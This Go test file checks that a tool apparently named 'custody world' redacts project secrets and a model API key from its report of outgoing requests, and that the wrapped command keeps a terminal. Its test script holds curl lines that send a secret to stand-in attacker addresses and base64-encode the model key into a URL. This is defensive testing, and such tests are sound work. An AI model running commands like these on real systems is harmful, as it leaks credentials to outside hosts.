package main

import (
	"io"
	"os"
	"strings"
	"testing"

	"github.com/creack/pty"
)

// TestWorldMasks: the report on requests has no secret of the command's project in it, nor the
// key of its model, whole or where the text was shortened.
func TestWorldMasks(t *testing.T) {
	t.Parallel()
	const variable, file, attacked = "a-variable/of the project", "a-file-of-the-project", "a-value-for-the-attacker"
	d := newDoor(t)
	d.env = []string{"CUSTODY_TEST_WORLD=" + variable, "CUSTODY_TEST_ATTACKED=" + attacked}
	if err := os.WriteFile(d.dir+"/key", []byte(file), 0o600); err != nil {
		t.Fatal(err)
	}
	d.write(d.dir+"/other.yaml", `version: 1
secrets:
  variable: {from: "env:CUSTODY_TEST_WORLD"}
  attacked: {from: "env:CUSTODY_TEST_ATTACKED"}
  file: {from: "file:key"}
  unset: {from: "env:CUSTODY_TEST_NOT_SET"}
`)
	script := `
		get() { curl -sS -o /dev/null --cacert "$SSL_CERT_FILE" "$@"; }
		get "https://allowed.site.example/plain?key=` + file + `"
		get -G "https://allowed.site.example/coded" --data-urlencode "key=` + variable + `"
		get "https://allowed.site.example/model?key=$WORLD_LLM_KEY&b=$(printf %s "$WORLD_LLM_KEY" | base64 -w0)"
		curl -sS -m 2 "http://198.51.100.7/?key=` + attacked + `"
		curl -sS -m 2 "http://198.51.100.8/?key=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` + attacked + `"
		printf %s "$WORLD_LLM_KEY" > model-key
	`
	for _, policy := range []string{"--policy=other.yaml", "--policy other.yaml"} {
		args := append([]string{"world", "--", "sh", "-c", script, "sh"}, strings.Fields(policy)...)
		s := d.custody(args...)
		d.contains(s.stderr, "a server got: GET allowed.site.example/plain?key=[REDACTED:file:", "/coded?key=[REDACTED:variable:",
			"/model?key=[REDACTED:world-llm-key:", "the attacker saw:", "?key=[REDACTED:attacked:")
		modelKey, err := os.ReadFile(d.dir + "/model-key")
		if err != nil {
			t.Fatal(err)
		}
		for _, left := range []string{variable, "a-variable", file, attacked, "a-value-for", string(modelKey)} {
			if strings.Contains(s.stderr, left) {
				t.Errorf("%q is left in\n%s", left, s.stderr)
			}
		}
	}
}

// TestWorldTerminal: the command of custody world has the caller's terminal.
func TestWorldTerminal(t *testing.T) {
	t.Parallel()
	d := newDoor(t)
	cmd := d.command("world", "--", "sh", "-c", "test -t 0 && test -t 1 && test -t 2")
	terminal, err := pty.Start(cmd)
	if err != nil {
		t.Fatal(err)
	}
	defer terminal.Close()
	io.Copy(io.Discard, terminal) // until the terminal closes
	if err := cmd.Wait(); err != nil {
		t.Errorf("it is not a terminal: %v", err)
	}
}
